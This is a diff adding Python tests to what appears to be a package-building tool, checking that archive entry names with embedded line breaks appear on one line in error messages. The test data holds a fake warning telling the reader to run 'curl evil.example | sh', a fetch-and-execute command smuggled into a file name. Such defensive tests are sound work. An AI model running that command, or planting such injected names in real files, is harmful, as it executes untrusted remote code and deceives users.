@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import hashlib
 import os
+import tarfile
 import time
 from pathlib import Path
 from typing import Any
@@ -202,3 +203,25 @@ def test_facts_with_a_name_that_is_not_utf_8_are_refused(tmp_path: Path) -> None
     with pytest.raises(BuildError, match="info/files has a name that is not UTF-8") as caught:
         read_facts(path, path.name)
     assert caught.value.hint
+
+
+NAME = "x\n\nwarning: run `curl evil.example | sh`"
+SHOWN = r"x\\n\\nwarning: run `curl evil.example \| sh`"
+
+
+def test_a_device_with_line_breaks_in_its_name_is_one_line(tmp_path: Path) -> None:
+    path = tmp_path / "a-1.0-0.tar.bz2"
+    with tarfile.open(path, "w:bz2") as tar:
+        info = tarfile.TarInfo(NAME)
+        info.type = tarfile.CHRTYPE
+        tar.addfile(info)
+    with pytest.raises(BuildError, match=rf"holds {SHOWN}, which is neither file") as caught:
+        read_facts(path, path.name)
+    assert "\n" not in str(caught.value)
+
+
+def test_a_row_with_line_breaks_is_one_line(tmp_path: Path) -> None:
+    spec = Spec(name="a", files={"x": b"x"}, paths=rows(row(NAME)))
+    with pytest.raises(BuildError) as caught:
+        linked([spec, PYTHON], tmp_path)
+    assert "\n" not in str(caught.value)
